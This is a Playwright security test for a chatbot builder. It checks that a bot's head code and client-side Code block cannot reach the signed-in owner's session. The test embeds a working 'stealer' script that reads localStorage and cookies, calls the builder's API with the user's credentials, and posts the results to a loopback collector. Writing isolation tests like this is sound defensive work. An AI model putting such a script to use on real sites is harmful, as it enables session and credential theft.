import { createServer, type Server } from 'node:http'
import type { AddressInfo } from 'node:net'
import { expect, test, type Page } from '@playwright/test'
import { ownerCall } from '../support/api'
import { signInWithPrintedUrl } from '../support/app'

// A bot author's code (head code, a client-side Code block) tries every way to the signed-in
// builder user's session: storage, cookies, and the builder's API with the browser's credentials.
// It reports what it got to a collector on loopback. Nothing of the session may reach it.

type Report = { from: string; localStorage: string; cookie: string; api: string }

let collector: Server
let collectorUrl = ''
const reports: Report[] = []

test.beforeAll(async () => {
  collector = createServer((req, res) => {
    let body = ''
    req.on('data', (chunk) => (body += chunk))
    req.on('end', () => {
      if (req.method === 'POST') reports.push(JSON.parse(body) as Report)
      res.writeHead(204, { 'Access-Control-Allow-Origin': '*', 'Access-Control-Allow-Headers': '*' }).end()
    })
  })
  await new Promise<void>((resolve) => collector.listen(0, '127.0.0.1', resolve))
  collectorUrl = `http://127.0.0.1:${(collector.address() as AddressInfo).port}/`
})
test.afterAll(() => collector.close())

/** What the author's code runs: read all it can, call the builder's API as the user, report. */
const stealer = (from: string, builderOrigin: string) => `
  const found = { from: ${JSON.stringify(from)}, localStorage: '', cookie: '', api: '' }
  try { found.localStorage = JSON.stringify({ ...localStorage }) } catch (e) { found.localStorage = 'blocked: ' + e.name }
  try { found.cookie = document.cookie } catch (e) { found.cookie = 'blocked: ' + e.name }
  try {
    const reply = await fetch(${JSON.stringify(`${builderOrigin}/api/v1/workspaces`)}, { credentials: 'include' })
    found.api = reply.status + ' ' + (await reply.text())
  } catch (e) { found.api = 'failed: ' + e.name }
  await fetch(${JSON.stringify(collectorUrl)}, { method: 'POST', body: JSON.stringify(found) })
`

async function publishStealingBot(page: Page) {
  const builderOrigin = new URL(page.url()).origin
  const { workspaces } = await ownerCall(builderOrigin, 'GET', '/v1/workspaces')
  const bot = {
    name: 'Innocent bot',
    events: [{ id: 'start', type: 'start', graphCoordinates: { x: 0, y: 0 }, outgoingEdgeId: 'e1' }],
    groups: [
      {
        id: 'g1',
        title: 'Start',
        graphCoordinates: { x: 0, y: 120 },
        blocks: [
          { id: 'code', type: 'Code', options: { isExecutedOnClient: true, content: stealer('code block', builderOrigin) } },
          { id: 'hi', type: 'text', content: { richText: [{ type: 'p', children: [{ text: 'Hello there' }] }] } },
        ],
      },
    ],
    edges: [{ id: 'e1', from: { eventId: 'start' }, to: { groupId: 'g1' } }],
    settings: { metadata: { customHeadCode: `<script>(async () => {${stealer('head code', builderOrigin)}})()</script>` } },
  }
  const created = await ownerCall(builderOrigin, 'POST', '/v1/bots', { workspaceId: workspaces[0].id, bot })
  const published = await ownerCall(builderOrigin, 'POST', `/v1/bots/${created.bot.id}/publish`)
  return { botId: created.bot.id as string, publicId: (published.bot?.publicId ?? created.bot.publicId) as string }
}

/** Nothing of the session in what the code reported, and the builder's API refused it. */
function expectNothingStolen(report: Report) {
  expect(report.localStorage).not.toContain('bb.connection')
  expect(report.localStorage).not.toContain('bbt_')
  expect(report.cookie).not.toContain('bb_session')
  expect(report.api).not.toMatch(/^200/)
  expect(report.api).not.toContain('My workspace')
}

test('a bot’s head code and client script on its public page cannot reach the signed-in owner’s session', async ({ page }) => {
  await signInWithPrintedUrl(page)
  const builderOrigin = new URL(page.url()).origin
  const { publicId } = await publishStealingBot(page)
  reports.length = 0

  // The old address on the builder's origin sends the visitor to the chat origin.
  await page.goto(`/b/${publicId}`)
  expect(new URL(page.url()).origin).not.toBe(builderOrigin)
  await expect(page.getByRole('list', { name: 'Conversation' }).getByText('Hello there')).toBeVisible()
  await expect.poll(() => reports.map((r) => r.from).sort()).toEqual(['code block', 'head code'])
  for (const report of reports) expectNothingStolen(report)

  // The owner is still signed in on the builder, and the session works there.
  await page.goto('/')
  await expect(page).toHaveURL(/\/w\//)
})

test('the builder’s preview runs the bot’s client script in the chat origin’s sandbox, away from the session', async ({ page }) => {
  await signInWithPrintedUrl(page)
  const { botId } = await publishStealingBot(page)
  reports.length = 0
  await page.goto(`/bots/${botId}/flow`)
  await page.getByRole('button', { name: 'Preview', exact: true }).click()
  await expect(page.getByRole('complementary', { name: 'Preview' }).getByRole('list', { name: 'Conversation' }).getByText('Hello there')).toBeVisible()
  await expect.poll(() => reports.map((r) => r.from)).toEqual(['code block'])
  expectNothingStolen(reports[0])
  // The sandbox is an opaque origin: it has no storage of its own to read either.
  expect(reports[0].localStorage).toMatch(/^blocked/)
})
